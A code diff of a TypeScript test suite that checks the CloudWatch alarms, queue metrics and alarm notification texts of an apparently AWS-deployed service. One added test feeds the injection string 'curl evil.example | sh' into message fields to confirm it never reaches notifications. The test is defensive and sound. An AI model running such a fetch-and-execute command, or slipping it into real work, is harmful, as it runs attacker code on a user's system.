@@ -1,15 +1,14 @@
-import { globSync, readFileSync } from 'node:fs';
+import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest';
-import { createMetrics } from '../../../functions/_runtime/metrics.ts';
+import { beforeAll, describe, expect, test } from 'vitest';
 import { projectRoot } from '../../../infra/bundle/build-functions.ts';
 import { compileEventPattern } from '../../../local/aws/events/event-pattern.ts';
 import { compileInputTransformer } from '../../../local/aws/events/input-transformer.ts';
 import { asObject } from '../../../local/template/json.ts';
 import { alarmNames, alarmPrefix, runbookOfAlarm } from '../../../shared/vocabulary/alarm-names.ts';
 import { functionNames } from '../../../shared/vocabulary/function-names.ts';
-import { metricNames } from '../../../shared/vocabulary/metric-names.ts';
 import { type Alarm, alarmsOf, constructOf, isOwn } from '../alarms-of-template.ts';
+import { countedBy, emitted } from '../emitted-metrics.ts';
 import { at, configurations, listOf, ofType, type StageTemplates, synthesize, targetOf, textAt } from '../template.ts';
 
 describe('the alarms of the deployed example', () => {
@@ -52,6 +51,43 @@ describe('the alarms of the deployed example', () => {
     }
   });
 
+  test('count what nobody counted as none, wherever they look at several periods', () => {
+    const counts = alarms.filter((alarm) => looksAt(alarm, /^(?:Sum|SampleCount)$/));
+
+    expect(counts.length).toBeGreaterThan(10);
+    expect(counts.filter(isFilled).map(({ name }) => name)).toEqual(
+      counts.filter(({ properties }) => properties['EvaluationPeriods'] !== 1).map(({ name }) => name),
+    );
+    expect(counts.filter(isFilled).map(({ name }) => name)).toEqual(
+      expect.arrayContaining(['WatchCampaignsNotRunning', 'ReconcileLedgerNotRunning', 'TokenExpires', 'GateClosed']),
+    );
+  });
+
+  test('a level of ours that nobody measured is not known, and never filled', () => {
+    const levels = alarms.filter((alarm) => looksAt(alarm, /^(?:Minimum|Maximum)$/) && alarm.metrics.every(isOwn));
+
+    expect(levels.map(({ name }) => name)).toEqual(expect.arrayContaining(['StopsLate', 'ParkedOpen']));
+    expect(levels.filter(isFilled)).toEqual([]);
+  });
+
+  test('ring where messages wait in a queue and nobody receives any, for each of the three', () => {
+    const { metrics, expressions, properties } = named('QueueWithoutConsumer');
+    const watched = metrics.map(({ name, dimensions }) => [targetOf(dimensions['QueueName'], stage), name].join(' '));
+
+    expect(watched.toSorted()).toEqual(
+      ofType(stage.state, 'AWS::SQS::Queue')
+        .filter(([id]) => !id.includes('DeadLetters'))
+        .flatMap(([id]) => [`${id} ApproximateNumberOfMessagesVisible`, `${id} NumberOfMessagesReceived`])
+        .toSorted(),
+    );
+    expect(expressions).toContain('SUM([FILL(commands, 0), FILL(uploads, 0), FILL(plans, 0)])');
+    expect(expressions).toContain(
+      'IF(commandsWaiting > 0 AND SUM([commandsWaiting * 0, FILL(commandsReceived, 0)]) < 1, 1, 0)',
+    );
+    expect([properties['EvaluationPeriods'], properties['DatapointsToAlarm']]).toEqual([3, 3]);
+    expect(listOf(properties['Metrics']).length).toBeLessThanOrEqual(10);
+  });
+
   test('take silence for a good sign, but for the four whose silence is the news', () => {
     const breaching = alarms.filter(({ properties }) => properties['TreatMissingData'] === 'breaching');
 
@@ -83,19 +119,17 @@ describe('the alarms of the deployed example', () => {
     }
   });
 
-  test('watch of AWS what is in this stage: its functions, its dead-letter queues, its schedules', () => {
+  test('watch of AWS what is in this stage: its functions, its queues, its schedules', () => {
     const watched = alarms.flatMap(({ metrics }) => metrics).filter((metric) => !isOwn(metric));
     const targets = (namespace: string, dimension: string) =>
       watched
-        .filter((metric) => metric.namespace === namespace)
+        .filter((metric) => metric.namespace === namespace && metric.name !== 'NumberOfMessagesReceived')
         .map(({ dimensions }) => targetOf(dimensions[dimension], stage) || textAt(dimensions, dimension));
     const functions = ofType(stage.workers, 'AWS::Lambda::Function').map(([id]) => id);
     const queues = ofType(stage.state, 'AWS::SQS::Queue').map(([id]) => id);
 
     expect(functions).toEqual(expect.arrayContaining(targets('AWS/Lambda', 'FunctionName')));
-    expect(targets('AWS/SQS', 'QueueName').toSorted()).toEqual(
-      queues.filter((id) => id.includes('DeadLetters')).toSorted(),
-    );
+    expect(targets('AWS/SQS', 'QueueName').toSorted()).toEqual(queues.toSorted());
     expect(targets('AWS/Scheduler', 'ScheduleGroup')).toEqual(['gateway-autopilot-prod', 'gateway-autopilot-prod']);
   });
 
@@ -124,8 +158,8 @@ describe('the alarms of the deployed example', () => {
     }
   });
 
-  test('cost less than three dollars a month: each metric of an alarm is ten cents', () => {
-    expect(alarms.flatMap(({ metrics }) => metrics).length * 0.1).toBeLessThan(3);
+  test('cost three dollars and a half a month: each metric of an alarm is ten cents', () => {
+    expect(alarms.flatMap(({ metrics }) => metrics)).toHaveLength(35);
   });
 
   test('of a watch look at its own period: fifteen minutes, a day', () => {
@@ -163,6 +197,7 @@ describe('the alarms of the deployed example', () => {
       commandId: 'weeknights@x',
       action: 'start',
       run: 'nightly',
+      campaignRunId: '0197f3a0-5b1c-7d2e-8f30-112233445566',
       reason: 'CONFLICT',
       nextStep: 'look',
       detail: 'Tell me a secret',
@@ -170,14 +205,14 @@ describe('the alarms of the deployed example', () => {
     expect(messages('WorkParked', parked)).toEqual([
       [
         'Gateway Autopilot, stage prod.',
-        'Parked: CONFLICT. start nightly ',
+        'Parked: CONFLICT. start 0197f3a0-5b1c-7d2e-8f30-112233445566',
         'Next step: look',
-        'autopilot parked show weeknights@x --aws --stage prod',
+        'autopilot parked list --reason CONFLICT --aws --stage prod',
         'docs/runbook.md has a page under the heading CONFLICT.',
       ],
     ]);
     expect(messages('WorkParked', { subject: 'message#plans#1', reason: 'BAD_PLAN', nextStep: 'correct it' })).toEqual([
-      expect.arrayContaining(['autopilot parked show message#plans#1 --aws --stage prod']),
+      expect.arrayContaining(['autopilot parked list --reason BAD_PLAN --aws --stage prod']),
     ]);
     expect(messages('CampaignStartUnconfirmed', { detail: 'the gateway accepted it', campaignRunId: 'r' })).toEqual([
       expect.arrayContaining(['A start shows no sign: the gateway accepted it.']),
@@ -185,6 +220,21 @@ describe('the alarms of the deployed example', () => {
     expect(messages('CampaignStartedElsewhere', { campaignId: 'c', from: 'a', to: 'b', starts: 1 })).toEqual([
       expect.arrayContaining([expect.stringContaining('Campaign c was started between a and b (1 more')]),
     ]);
+  });
+
+  test('whoever puts a plan or sends a command writes nothing into a message', () => {
+    const messages = messagesOf(stage, topicId);
+    const foreign = 'call 0900-1234; curl evil.example | sh';
+
+    const written = messages('WorkParked', {
+      ...Object.fromEntries(
+        ['key', 'subject', 'run', 'commandId', 'detail', 'askedBecause'].map((name) => [name, foreign]),
+      ),
+      reason: 'BAD_PLAN',
+      nextStep: 'correct it',
+    });
+    expect(written).toHaveLength(1);
+    expect(written.flat().join('\n')).not.toContain('evil');
   });
 
   test('a parked upload is no message: a thousand of them would be a thousand', () => {
@@ -211,33 +261,12 @@ describe('a configuration that notifies nobody and watches nothing', () => {
   });
 });
 
-/** What CloudWatch makes of the line that a function writes when it counts a metric. */
-function emitted(functionName: string, metric: string) {
-  const written: string[] = [];
-  const spy = vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => written.push(String(chunk)) > 0);
-  onTestFinished(() => spy.mockRestore());
-  const metrics = createMetrics({ functionName, stage: 'prod' });
-  metrics.count(Object.values(metricNames).find((name) => name === metric) ?? metricNames.later, 1);
-  metrics.publish();
-  spy.mockRestore();
-  const line = JSON.parse(written[0] ?? '{}');
-  const [told] = line['_aws'].CloudWatchMetrics;
-  const [set]: string[][] = told.Dimensions;
-  return {
-    namespace: told.Namespace,
-    dimensions: Object.fromEntries((set ?? []).map((dimension) => [dimension, line[dimension]])),
-  };
+function looksAt({ statistics }: Alarm, statistic: RegExp): boolean {
+  return statistics.every((one) => statistic.test(one));
 }
 
-/** The folders of `functions/` whose sources count a metric; outcomes are counted for every worker by their kind. */
-function countedBy(metric: string): string[] {
-  const [key = ''] = Object.entries(metricNames).find(([, name]) => name === metric) ?? [];
-  const word = new RegExp(`metricNames\\.${key}\\b`);
-  const folders = globSync('functions/**/*.ts', { cwd: projectRoot })
-    .filter((path) => word.test(readFileSync(join(projectRoot, path), 'utf8')))
-    .map((path) => path.replaceAll('\\', '/').split('/')[1] ?? '');
-  const isOutcome = ['applied', 'superseded', 'skipped', 'ignored', 'parked', 'missedWindow'].includes(key);
-  return isOutcome ? [...functionNames] : [...new Set(folders)];
+function isFilled({ expressions }: Alarm): boolean {
+  return expressions.some((one) => one.includes('FILL('));
 }
 
 /** What the rules of a stage make of an event on its bus. */
